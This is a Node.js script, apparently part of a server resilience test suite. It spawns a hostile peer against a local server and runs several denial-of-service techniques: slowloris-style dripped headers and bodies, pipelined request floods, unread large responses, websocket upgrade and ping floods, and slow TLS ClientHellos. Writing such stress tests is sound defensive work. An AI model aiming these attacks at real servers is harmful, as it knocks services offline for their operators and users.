// A hostile peer, in a process of its own so that it costs the measuring one nothing. Started by
// lib/attack.mjs as `node attacker.mjs NAME {"port": …}`; prints one JSON line when it has what it wanted,
// holds it until it is ended.
import { connect } from 'node:net';

const [name, settings] = [process.argv[2], JSON.parse(process.argv[3])];
const { port, host = 'victim.example.com', count = 1 } = settings;

/** A connection that never reads, and whose end is counted and nothing more. */
function silent(lost = () => {}) {
  const socket = connect({ port, host: '127.0.0.1', onread: undefined });
  socket.pause();
  socket.on('error', () => {});
  socket.on('close', lost);
  return socket;
}

/** Many connections, each doing something of its own; says how many are open in the end. */
async function many(begin) {
  let lost = 0;
  let open = 0;
  for (let i = 0; i < count; i++) {
    const socket = silent(() => lost++);
    socket.on('connect', () => { open++; begin(socket, i); });
    if (i % 200 === 199) await new Promise((resolve) => setTimeout(resolve, 20));
  }
  await new Promise((resolve) => setTimeout(resolve, 1000));
  return { open, lost };
}

/** Writes one thing again and again, as long as anybody takes it, up to a number of bytes. */
function flood(socket, piece, most) {
  let sent = 0;
  const more = () => {
    while (sent < most && !socket.destroyed) {
      sent += piece.length;
      if (!socket.write(piece)) return socket.once('drain', more);
    }
  };
  more();
  return () => sent;
}

const upgrade = (path) =>
  `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n';

const drip = (socket, text, everyMillis) => {
  let at = 0;
  const timer = setInterval(() => socket.write(text[at++ % text.length]), everyMillis);
  socket.on('close', () => clearInterval(timer));
};

const attacks = {
  // Requests without end whose answers nobody reads.
  async pipelining() {
    const request = `GET ${settings.path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    return many((socket) => flood(socket, Buffer.from(request.repeat(500)), 5_000_000));
  },
  // Heads that never end.
  async heads() {
    return many((socket) => {
      socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
      drip(socket, 'a', 2000);
    });
  },
  // Nothing at all.
  async nothing() {
    return many(() => {});
  },
  // Bodies that never end.
  async bodies() {
    return many((socket) => {
      socket.write(`POST /plain HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 1000000\r\n\r\n`);
      drip(socket, 'b', 5000);
    });
  },
  // Large answers that nobody reads.
  async readers() {
    return many((socket) => socket.write(`GET /large HTTP/1.1\r\nHost: ${host}\r\n\r\n`));
  },
  // Tunnels whose messages nobody reads.
  async tunnels() {
    return many((socket) => socket.write(upgrade('/flood')));
  },
  // Pings without end, in as many bytes as a handshake would take.
  async pings() {
    const ping = Buffer.from([0x89, 0x80, 1, 2, 3, 4]);
    const pings = Buffer.concat(Array(1000).fill(ping));
    return many((socket) => {
      socket.write(upgrade('/rated'));
      socket.resume();
      setTimeout(() => flood(socket, pings, 2_000_000), 300);
    });
  },
  // A ClientHello, byte by byte.
  async hellos() {
    return many((socket) => {
      socket.write(Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01]));
      drip(socket, '\u0000', 1000);
    });
  },
  // Long targets, one after the other, answers read.
  async targets() {
    const request = `GET ${settings.path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    let answered = 0;
    const result = await many((socket) => {
      socket.resume();
      const next = () => socket.write(request);
      socket.on('data', () => { answered++; next(); });
      next();
    });
    return { ...result, answered };
  },
};

const held = await attacks[name]();
process.stdout.write(`${JSON.stringify(held)}\n`);
setInterval(() => {}, 1000);
